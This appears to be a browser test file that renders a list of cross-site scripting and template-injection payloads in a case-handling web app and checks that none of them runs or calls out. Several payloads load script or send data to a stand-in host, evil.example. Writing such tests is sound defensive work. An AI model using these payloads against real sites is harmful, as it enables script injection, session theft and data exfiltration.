"""Words that try to be a script stay words, in a real browser at the desk."""

from __future__ import annotations

import itertools
import shutil

import pytest
from playwright.async_api import async_playwright

from tests.desk.conftest import PASSWORD, Desk, book, clock, database, desk, quick_hashes, settings
from tests.faults.conftest import Figure, figure
from tests.page.conftest import QUIET

pytestmark = pytest.mark.browser
__all__ = ["book", "clock", "database", "desk", "figure", "quick_hashes", "settings"]

TAGS = ("img src=x", "svg", "body", "video src=x", "iframe", "details open", "input autofocus", "marquee")
EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onstart", "onmouseover")
WHOLE = (
    "<script>ran()</script>",
    "</textarea><script>ran()</script>",
    "'\"><script src=https://evil.example/x.js></script>",
    "<a href=javascript:ran()>x</a>",
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=a></form>",
    "<object data=https://evil.example/x></object>",
    "<math><mtext><img src=x onerror=ran()></mtext></math>",
    "{{7*7}} ${7*7} #{7*7} {% print(7*7) %}",
    '<!--<img src="--><img src=x onerror=ran()//">',
    "<svg><animate onbegin=ran() attributeName=x dur=1s>",
    '<noscript><p title="</noscript><img src=x onerror=ran()>">',
)
QUOTES = ("", "'>", '">', "</p>", "</blockquote>", "-->")
PAYLOADS = [
    f"{quote}<{tag} {event}=ran()>" for quote, tag, event in itertools.product(QUOTES, TAGS, EVENTS)
] + [f"{quote}{payload}" for quote, payload in itertools.product(QUOTES[:2], WHOLE)]


async def test_no_payload_runs_at_the_desk(desk: Desk, figure: Figure) -> None:
    everything = "\n".join(PAYLOADS)
    reference = desk.case(
        own_words={"p_words": everything},
        sections={"p_name": PAYLOADS[0], "p_service": WHOLE[0], "p_role": "harmed", "p_needs": PAYLOADS[:20]},
    )
    await desk.signed_in("lead")
    program = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    async with async_playwright() as play:
        chromium = await play.chromium.launch(executable_path=program, args=QUIET)
        page = await chromium.new_page()
        ran: list[str] = []
        outside: list[str] = []
        await page.expose_function("ran", lambda: ran.append("ran"))
        page.on("dialog", lambda dialog: ran.append("dialog"))
        page.on("request", lambda asked: outside.append(asked.url) if "evil" in asked.url else None)
        await page.goto(f"{desk.base}/sign-in")
        await page.fill("#email", "lead@example.nz")
        await page.fill("#password", PASSWORD)
        await page.fill("#code", desk.code("lead@example.nz"))
        await page.keyboard.press("Enter")
        await page.wait_for_url("**/queue")
        await page.goto(f"{desk.base}/case/{reference}")
        await page.check("input[value=no]")
        await page.get_by_role("button", name="Go on").click()
        shown = await page.locator("main").inner_text()
        await page.wait_for_timeout(300)
        await chromium.close()
    assert PAYLOADS[-1] in shown
    assert (ran, outside) == ([], [])
    figure("B35", f"{len(PAYLOADS)} payloads shown at the desk in Chromium: 0 ran, 0 calls outside")
